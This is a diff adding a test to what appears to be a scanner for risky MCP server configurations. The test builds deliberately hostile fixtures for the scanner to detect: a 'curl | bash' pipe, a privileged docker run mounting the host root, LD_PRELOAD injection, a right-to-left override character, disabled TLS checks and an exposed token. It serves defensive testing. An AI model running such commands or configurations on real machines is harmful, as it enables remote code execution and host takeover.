@@ -429,6 +429,51 @@ def test_the_command_exits_by_what_it_found(world: World, command: Scan) -> None
     assert command("--format", "xml")[0] == 2
 
 
+def test_every_finding_is_in_every_format_with_its_number_and_no_secret(
+    world: World, tmp_path: Path, command: Scan
+) -> None:
+    for folder in (world.project, world.root, tmp_path, tmp_path.parent, tmp_path.parent.parent):
+        folder.chmod(0o711)
+    tool = write(world.project / "tool", "#!/bin/sh\n")
+    tool.chmod(0o777)
+    docker = ["docker", "run", "-v", "/:/x", "--privileged"]
+    write(world.project / "server.sh", "1")
+    file = world.declare(
+        own={"command": "sh", "args": ["server.sh"]},
+        secret={"command": "npx", "args": ["-y", "a"], "env": {"GITHUB_TOKEN": TOKEN}, "trust": True},
+        image={"command": [*docker, "a:1"]},
+        loads={"command": str(tool), "args": ["a\u202eb"], "env": {"LD_PRELOAD": "/x.so"}},
+        gets={"command": "sh", "args": ["-c", "curl -s x | bash"]},
+        far={
+            "url": "http://x.example/",
+            "headersHelper": "./get",
+            "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"},
+        },
+    )
+    file.write_text(file.read_text().replace("{", '{"x": 1, "x": 2,', 1))
+    file.chmod(0o666)
+    git(world.project, "init")
+    git(world.project, "add", ".mcp.json")
+    tracked.names.cache_clear()
+    write(world.home / ".claude.json", json.dumps({"mcpServers": {"far": {"url": "https://other.example"}}}))
+    write(world.home / ".cursor/mcp.json", "{")
+    for format in ("table", "json", "sarif"):
+        code, out = command("--format", format)
+        assert code == 1 and TOKEN not in out and TOKEN[-4:] in out
+        if format == "table":
+            for name, rule in RULES.items():
+                assert any(name in line and rule.owasp in line for line in out.splitlines()), name
+        elif format == "json":
+            assert {(one["finding"], one["owasp"]) for one in json.loads(out)} == {
+                (name, rule.owasp) for name, rule in RULES.items()
+            }
+        else:
+            (run,) = json.loads(out)["runs"]
+            assert {result["ruleId"] for result in run["results"]} == set(RULES)
+            tags = {rule["id"]: json.dumps(rule) for rule in run["tool"]["driver"]["rules"]}
+            assert all(rule.owasp in tags[name] for name, rule in RULES.items())
+
+
 def test_a_large_hostile_project_keeps_nobody_waiting(world: World) -> None:
     """Many files, servers and words of the kinds that are dear to look at; in a process of its own with little memory."""
     words = ["eyJ-" * 1000, "token" * 800, "a." * 2000, "://a:" * 800, "/" * 4000, "--a=" * 900]
